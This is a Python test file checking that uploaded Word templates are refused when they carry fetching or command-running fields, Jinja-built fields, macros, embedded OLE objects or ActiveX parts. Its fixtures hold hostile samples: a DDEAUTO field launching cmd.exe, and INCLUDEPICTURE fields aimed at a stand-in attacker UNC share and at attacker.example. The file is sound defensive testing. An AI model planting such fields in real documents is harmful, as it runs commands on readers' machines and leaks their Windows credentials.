"""A province's Word template carries no field that makes Word fetch or run something when a printed document is
opened — DDEAUTO (a command), INCLUDEPICTURE / INCLUDETEXT / LINK / IMPORT / DATABASE (a file or URL, a UNC path
leaking the reader's Windows credentials) — neither written in the file, even split across runs, nor made by its
Jinja at rendering (``('INCLUDE' ~ 'PICTURE …') | safe``): the upload is refused, and a file rendered with one is
not handed over. Ordinary fields (PAGE, HYPERLINK) stay. Nor does it carry active content of its own: macros, embedded
OLE objects (a packaged program one double-click away), ActiveX controls."""

from __future__ import annotations

import pytest

from isotrail.domain.documents.document import DocumentKind
from isotrail.services.documents.default_templates import TEMPLATE
from isotrail.services.documents.rendering import DocumentFormat, TenantTemplate
from isotrail.services.documents.samples import sample
from isotrail.services.documents.sandbox import TemplateSandbox
from isotrail.services.documents.template_errors import TemplateRenderFailedError
from isotrail.services.documents.template_files import safe_word_file
from isotrail.services.documents.upload_errors import TemplateRejectedError
from tests.documents_files import paragraph, rewritten, with_body

SIMPLE = '<w:p><w:fldSimple w:instr=" {instr} "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
SPLIT = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE'
         '</w:instrText></w:r><w:r><w:instrText xml:space="preserve">PICTURE "\\\\attacker\\share\\p.png" \\d'
         '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def test_a_field_fetching_or_running_something_is_refused_at_upload() -> None:
    dde = SIMPLE.format(instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")
    for fields, named in ((dde, "DDEAUTO"), (SPLIT, "INCLUDEPICTURE"),
                          (SIMPLE.format(instr="link Excel.Sheet.8 x.xls"), "LINK")):
        with pytest.raises(TemplateRejectedError) as refused:
            safe_word_file(with_body(fields))
        assert named in refused.value.reason_en
    safe_word_file(TEMPLATE.read_bytes())
    safe_word_file(with_body(SIMPLE.format(instr='HYPERLINK &quot;https://skhcn.soctrang.gov.vn/link/1&quot;')
                             + SIMPLE.format(instr="PAGE")))


def test_a_field_its_jinja_makes_is_not_handed_over() -> None:
    made = ("{{ ('\\x3c/w:t\\x3e\\x3c/w:r\\x3e\\x3cw:r\\x3e\\x3cw:instrText\\x3e INCLUDE' ~ 'PICTURE "
            "http://attacker.example/p.png \\x3c/w:instrText\\x3e\\x3c/w:r\\x3e\\x3cw:r\\x3e\\x3cw:t\\x3e') | safe }}")
    template = TenantTemplate(with_body(paragraph(made.replace("<", "&lt;"))), "tenant-7-ffffffffffff")
    with TemplateSandbox(workers=1, seconds=20) as sandbox, pytest.raises(TemplateRenderFailedError) as failed:
        sandbox.render(sample(DocumentKind.INSPECTION_PLAN), DocumentFormat.DOCX, template)
    assert "INCLUDEPICTURE" in failed.value.message_en and "tenant-7-ffffffffffff" in failed.value.message_en


def test_a_word_file_with_macros_embedded_objects_or_activex_is_refused() -> None:
    for part in ("word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml"):
        with pytest.raises(TemplateRejectedError) as refused:
            safe_word_file(rewritten({}, {part: b"\xd0\xcf\x11\xe0 not for a template"}))
        assert part in refused.value.reason_en
    macro_type = rewritten({"[Content_Types].xml": lambda xml: xml.replace(
        "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")})
    with pytest.raises(TemplateRejectedError):
        safe_word_file(macro_type)
